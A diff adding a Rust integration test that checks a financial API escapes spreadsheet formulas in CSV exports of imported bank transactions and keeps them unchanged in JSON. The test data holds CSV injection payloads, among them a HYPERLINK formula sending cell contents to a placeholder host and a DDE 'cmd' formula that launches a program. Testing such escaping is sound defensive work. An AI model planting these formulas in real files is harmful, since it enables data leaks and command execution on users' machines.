@@ -186,3 +186,51 @@ async fn journals_and_transactions_read_as_columns_row_for_row() {
     assert_eq!(arrow.status(), 200);
     assert_eq!(&arrow.bytes().await.expect("arrow")[..4], &[0xff; 4]);
 }
+
+#[tokio::test]
+async fn imported_text_a_spreadsheet_would_run_is_escaped_in_the_csv_and_kept_as_it_is_in_json() {
+    let app = spawn_app().await;
+    app.load_demo().await;
+    let some: Value =
+        get(&app, "/api/v2/financial/transactions?limit=1", "application/json").await.json().await.expect("json");
+    let account = some["data"][0]["account"].as_str().expect("an account of the demo").to_string();
+    // A bank export whose free text carries formulas (OWASP's CSV Injection examples).
+    let cells = ["=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+SUM(1+1)", "@SUM(A1)", "=cmd|' /C calc'!A0"];
+    let mut csv = String::from("account,id,booking_date,amount,currency,counterparty,description,reference\n");
+    for (i, cell) in cells.iter().enumerate() {
+        let quoted = format!("\"{}\"", cell.replace('"', "\"\""));
+        csv.push_str(&format!("{account},TX-F{i},2024-01-0{},-12.50,EUR,{quoted},{quoted},-{i}\n", i + 1));
+    }
+    let body = json!({ "kind": "transactions", "file_name": "export.csv", "csv": csv, "source": "bank export", "licence": "proprietary" });
+    let r = app.post_json("/api/v2/data/imports", &app.key, &body, None).await;
+    let status = r.status();
+    assert_eq!(status, 201, "{}", r.text().await.unwrap_or_default());
+
+    let path = "/api/v2/financial/transactions?limit=100";
+    let json: Value = get(&app, path, "application/json").await.json().await.expect("json");
+    let imported: Vec<&Value> = json["data"]
+        .as_array()
+        .expect("data")
+        .iter()
+        .filter(|t| t["external_id"].as_str().is_some_and(|e| e.starts_with("TX-F")))
+        .collect();
+    assert_eq!(imported.len(), cells.len(), "{json}");
+    assert!(imported.iter().any(|t| t["description"] == cells[0]), "JSON keeps the text as imported");
+    let text = get(&app, path, "text/csv").await.text().await.expect("csv");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let header = reader.headers().expect("header").clone();
+    let column = |name: &str| header.iter().position(|h| h == name).expect(name);
+    let (description, reference, amount) = (column("description"), column("reference"), column("amount_minor"));
+    let mut seen = 0;
+    for record in reader.records() {
+        let record = record.expect("record");
+        let Some(i) = cells.iter().position(|c| record[description].ends_with(c)) else { continue };
+        seen += 1;
+        // Text a spreadsheet would run starts with a `'`; numbers stay numbers.
+        assert_eq!(&record[description], format!("'{}", cells[i]));
+        assert!(!record[description].starts_with(['=', '+', '@', '-']));
+        assert!(record[reference].starts_with("'-"), "{:?}", &record);
+        assert_eq!(&record[amount], "-1250", "{:?}", &record);
+    }
+    assert_eq!(seen, cells.len(), "{text}");
+}
